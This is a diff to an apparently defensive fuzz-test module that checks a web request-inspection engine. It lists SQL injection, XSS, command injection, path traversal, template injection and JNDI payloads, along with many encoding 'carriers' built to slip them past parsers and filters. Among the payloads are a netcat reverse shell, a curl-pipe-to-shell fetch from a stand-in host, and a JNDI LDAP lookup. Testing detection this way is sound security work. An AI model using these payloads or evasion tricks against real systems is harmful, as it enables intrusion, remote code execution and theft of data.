@@ -12,12 +12,13 @@ import fc from "fast-check";
 import type { Req } from "../engine.js";
 import { rng, type R } from "./rng.js";
 
+/** Long payloads, and short ones (`;id`, `{{7*7}}`) that a carrier's leftovers (a split, a prefix) hide more easily. */
 export const PAYLOADS = {
-  sqli: ["1' or '1'='1' -- -", "0 union select username,password from users--", "7; drop table accounts--", "x' and sleep(5)#"],
-  xss: ["<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "<svg onload=confirm(1)>"],
-  rce: ["127.0.0.1; cat /etc/passwd", "a|nc 10.9.8.7 4444 -e /bin/sh", "$(curl http://203.0.113.9/x.sh|sh)"],
-  lfi: ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini"],
-  ssti: ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}"],
+  sqli: ["1' or '1'='1' -- -", "0 union select username,password from users--", "7; drop table accounts--", "x' and sleep(5)#", "admin'--"],
+  xss: ["<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "<svg onload=confirm(1)>", "\"><img src=x onerror=alert(1)>"],
+  rce: ["127.0.0.1; cat /etc/passwd", "a|nc 10.9.8.7 4444 -e /bin/sh", "$(curl http://203.0.113.9/x.sh|sh)", ";id", "`id`"],
+  lfi: ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd"],
+  ssti: ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{7*7}}", "<%= 7*7 %>"],
   jndi: ["${jndi:ldap://203.0.113.9:1389/a}"],
 };
 const ALL = Object.values(PAYLOADS).flat();
@@ -33,7 +34,7 @@ export const CARRIERS = [
   // JSON
   "json-u-all", "json-surrogate", "json-dup-keys", "json-deep", "json-key-escaped", "json-array-mixed", "json-bom", "json-solidus", "json-lenient", "json-lone-surrogate", "json-utf16", "json-escaped-blanks",
   // urlencoded
-  "form-hpp", "form-plus-mix", "form-overlong", "form-percent-u", "form-double", "form-charset", "form-brackets", "form-name-brackets", "form-utf16", "form-tab-newline",
+  "form-hpp", "form-plus-mix", "form-overlong", "form-percent-u", "form-double", "form-charset", "form-brackets", "form-name-brackets", "form-utf16", "form-tab",
   // multipart
   "mp-quoted-boundary", "mp-boundary-first", "mp-unquoted-name", "mp-filename-star", "mp-base64", "mp-qp", "mp-preamble", "mp-lf", "mp-json-part", "mp-header-case", "mp-dup-name-param", "mp-boundary-space", "mp-part-utf16", "mp-nested", "mp-dup-boundary",
   // Content-Type mismatches
@@ -88,8 +89,8 @@ export function carry(v: string, c: Carrier, r: R): Req {
   const jv = JSON.stringify(v);
   switch (c) {
     case "json-u-all": return json("application/json", `{"lang":"en","${name}":"${uAll(v, r)}"}`);
-    // an astral character (a surrogate pair in JSON) before the payload
-    case "json-surrogate": return json("application/json", `{"${name}":"\\ud83d\\ude00 ${jv.slice(1, -1)}","n":1}`);
+    // an astral character (a surrogate pair in JSON) in the key and the value beside the payload
+    case "json-surrogate": return json("application/json", `{"\\ud83d\\ude00":"\\ud83d\\ude00","${name}":${jv},"n":1}`);
     // most JSON parsers keep the last of duplicate keys: the first is the decoy
     case "json-dup-keys": return json("application/json", `{"${name}":"hello","id":3,"${name}":${jv}}`);
     case "json-deep": {
@@ -106,11 +107,11 @@ export function carry(v: string, c: Carrier, r: R): Req {
 
     // JSON as lenient parsers (JSON5, Jackson's ALLOW_COMMENTS, ...) take it: a comment, a trailing comma, \u escapes
     case "json-lenient": return json("application/json", `{/* v2 */ "lang": 'en', "${name}": "${uAll(v, r)}",}`);
-    // a lone high surrogate (an invalid escape most decoders replace) before the payload
-    case "json-lone-surrogate": return json("application/json", `{"${name}":"\\ud800${jv.slice(1, -1)}"}`);
+    // a lone high surrogate (an invalid escape most decoders replace) in the member before the payload's
+    case "json-lone-surrogate": return json("application/json", `{"a\\ud800":"\\udc00x","${name}":${jv}}`);
     case "json-utf16": return { method: "POST", path: "/api/v1/items", headers: [host, ["content-type", "application/json; charset=utf-16le"]], body: new Uint8Array(Buffer.from(`{"${name}":${jv}}`, "utf16le")) };
-    // blanks as JSON escapes: SQL, HTML and shells read a line break or a tab as a blank
-    case "json-escaped-blanks": return json("application/json", `{"${name}":${jv.replace(/ /g, () => pickR(r, ["\\n", "\\t", "\\r\\n"]))}}`);
+    // blanks as JSON escapes: SQL, HTML and shells read a tab as a blank
+    case "json-escaped-blanks": return json("application/json", `{"${name}":${jv.replace(/ /g, "\\t")}}`);
 
     // parameter pollution: a benign first value, the payload in the second
     case "form-hpp": return form(`${name}=hello&lang=en&${name}=${formEnc(v, r)}`);
@@ -122,7 +123,7 @@ export function carry(v: string, c: Carrier, r: R): Req {
     case "form-brackets": return form(`user[profile][${name}]=${formEnc(v, r)}&tags[]=a&tags[]=b`);
     case "form-name-brackets": return form(`lang=en&filter[${formEnc(v, r)}]=1`);
     case "form-utf16": return { method: "POST", path: "/app/submit", headers: [host, ["content-type", "application/x-www-form-urlencoded; charset=utf-16le"]], body: new Uint8Array(Buffer.from(`${name}=${formEnc(v, r)}`, "utf16le")) };
-    case "form-tab-newline": return form(`${name}=${formEnc(v, r).replace(/\+|%20/g, () => pickR(r, ["%09", "%0A", "%0D%0A"]))}`);
+    case "form-tab": return form(`${name}=${formEnc(v, r).replace(/\+|%20/g, "%09")}`);
 
     case "mp-quoted-boundary": return mp(`boundary="a'b(c)d+e_f"`, `--a'b(c)d+e_f\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${v}\r\n--a'b(c)d+e_f--\r\n`);
     // the boundary parameter after another, a boundary that looks like a part header
@@ -179,7 +180,7 @@ export function carry(v: string, c: Carrier, r: R): Req {
     case "query-brackets": return { path: `/app/view?filter[${name}][eq]=${formEnc(v, r)}&ids[]=1&ids[]=2`, headers: [host] };
     case "query-hpp": return { path: `/app/view?${name}=hello&${name}=${formEnc(v, r)}`, headers: [host] };
     // a matrix parameter on every segment (Tomcat, Spring drop them before routing)
-    case "path-matrix-traversal": return { path: "/static/" + v.split(/([\/\\])/).map((seg) => (seg === "/" || seg === "\\" ? pctAll(seg) : seg === "" ? "" : `${pctAll(seg)};v=1`)).join(""), headers: [host] };
+    case "path-matrix-traversal": return { path: "/static/" + v.split(/([/\\])/).map((seg) => (seg === "/" ? seg : seg === "\\" ? "%5C" : seg === "" ? "" : `${pctAll(seg)};v=1`)).join(""), headers: [host] };
     case "path-double-encoded": return { path: `/files/${pctAll(v).replace(/%/g, "%25")}`, headers: [host] };
     case "query-array": return { path: `/app/view?${name}[]=hello&${name}[]=${formEnc(v, r)}`, headers: [host] };
     // a bare argument, no `=`: frameworks keep it as a name with an empty value
